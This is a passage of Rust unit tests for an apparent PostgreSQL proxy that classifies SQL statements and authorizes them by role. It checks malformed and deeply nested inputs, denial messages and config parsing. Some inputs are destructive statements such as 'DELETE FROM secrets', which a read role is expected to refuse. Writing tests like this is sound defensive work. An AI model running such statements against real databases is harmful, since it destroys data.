    fn parse_failure_still_classifies_the_pieces() {
        let c = classify("SELECT 1; SELEC 2; DELETE FROM t WHERE id = 1");
        let classes: Vec<StatementClass> = c.statements.iter().map(|s| s.class).collect();
        assert!(classes.contains(&Unparsed), "{classes:?}");
        assert!(classes.contains(&Write), "{classes:?}");
        assert!(c
            .statements
            .iter()
            .any(|s| s.unparsed.as_deref().is_some_and(|u| u.contains("syntax error"))));
    }

    #[test]
    fn nul_bytes_and_odd_input_are_unparsed_not_panics() {
        for sql in [
            "SELECT '\0'",
            "\u{feff}SELECT 1",
            "SELECT 1 /* unterminated",
            "$$",
            "'",
            "\"",
            "/*/*/",
            "𝕊𝔼𝕃𝔼ℂ𝕋 1",
        ] {
            let c = classify(sql);
            assert!(
                authorize_all(&role("read"), &c) != Decision::Allow || c.class() == Read,
                "{sql:?}"
            );
        }
        assert_eq!(classify("SELECT '\0'").class(), Unparsed);
    }

    #[test]
    fn deep_nesting_is_bounded_not_a_crash() {
        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
        let c = classify(&deep);
        assert!(!c.statements.is_empty());
    }

    #[test]
    fn denials_read_well_at_3am() {
        let Decision::Deny { reason, hint } =
            authorize_all(&role("read"), &classify("DELETE FROM orders WHERE id = 1"))
        else {
            panic!()
        };
        assert_eq!(
            reason,
            "DELETE needs write access (DELETE removes rows); role read allows only read"
        );
        assert_eq!(hint, "request a grant with a role that allows write");
        let Decision::Deny { reason, .. } =
            authorize_all(&role("read"), &classify("SELECT 1; SELECT nextval('s')"))
        else {
            panic!()
        };
        assert!(
            reason.starts_with(
                "statement 2 of 2 denied, so none of them ran: SELECT needs write access (calls nextval()"
            ),
            "{reason}"
        );
    }

    /// The shape cache ([`cache`](mod@cache)) trusts these locations to prove that a literal became a
    /// plain constant; a literal read for its value by the grammar must leave none.
    #[test]
    fn constants_are_located_where_postgresql_puts_them() {
        let at = |sql: &str| {
            let (c, mut constants) = classify::classify_with_constants(sql);
            constants.sort();
            (c, constants)
        };
        let sql = "SELECT 1, 'a', x - 5, - 7, date '2020-01-01', NULL FROM t LIMIT 3";
        let (c, constants) = at(sql);
        assert_eq!(c, classify(sql));
        let expected: Vec<usize> = ["1", "'a'", "5", "- 7", "'2020", "NULL", "3"]
            .iter()
            .map(|lit| sql.find(lit).unwrap())
            .collect();
        assert_eq!(
            constants, expected,
            "a folded unary minus moves the constant to the sign"
        );
        let (_, constants) = at("SELECT CAST(a AS float(10)), current_time(3), b FROM t");
        assert!(
            constants.is_empty(),
            "values the grammar reads are no A_Const: {constants:?}"
        );
        let (_, constants) = at("SELECT 1; SELECT 2");
        assert_eq!(
            constants,
            [7, 17],
            "offsets count from the start of the whole text"
        );
        assert!(
            at("SELEC 1").1.is_empty(),
            "a text PostgreSQL rejects reports none"
        );
    }

    #[test]
    fn role_policy_from_config() {
        let role = crate::config::Role {
            name: "analyst".into(),
            allow: vec![Read, Write],
            max_ttl: Duration::from_secs(3600),
            tables: None,
            require_where: true,
            statement_timeout: Some(Duration::from_secs(30)),
            allow_unparsed: false,
            allow_functions: vec!["f".into()],
        };
        let p = RolePolicy::from(&role);
        assert_eq!(p.allow, [Read, Write]);
        assert!(p.require_where && !p.allow_unparsed);
        assert_eq!(p.statement_timeout, Some(Duration::from_secs(30)));
    }

    const CONFIG: &str = r#"
        [proxy]
        listen = "127.0.0.1:6432"
        tls = "disabled"
        [admin]
        listen = "127.0.0.1:9187"
        [store]
        url = "sqlite::memory:"
        [roles.read]
        allow = ["read"]
        max_ttl = "8h"
        statement_timeout = "30s"
        tables = { deny = ["public.secrets"] }
    "#;

    #[test]
    fn check_command_reports_each_statement_and_the_decision() {
        let config = Config::from_toml_str(CONFIG).unwrap();
        let (out, ok) = check_command(&config, "read", "SELECT * FROM orders; SHOW search_path");
        assert!(ok, "{out}");
        assert!(
            out.contains("statement 1 of 2: SELECT * FROM orders") && out.contains("relations: orders"),
            "{out}"
        );
        assert!(out.trim_end().ends_with("allowed"), "{out}");

        let (out, ok) = check_command(&config, "read", "SELECT 1; DELETE FROM secrets");
        assert!(!ok);
        assert!(
            out.contains("class:     write") && out.contains("decision:  denied: DELETE needs write access"),
            "{out}"
        );
        assert!(
            out.contains("hint:      request a grant with a role that allows write"),
            "{out}"
        );
        assert!(out.trim_end().ends_with("denied"), "{out}");

        let (out, ok) = check_command(&config, "reader", "SELECT 1");
        assert!(
            !ok && out.contains("unknown role \"reader\"; the config defines: read"),
            "{out}"
        );

        let (out, ok) = check_command(&config, "read", "  -- nothing\n");
        assert!(ok && out.contains("no statements"), "{out}");
    }
}
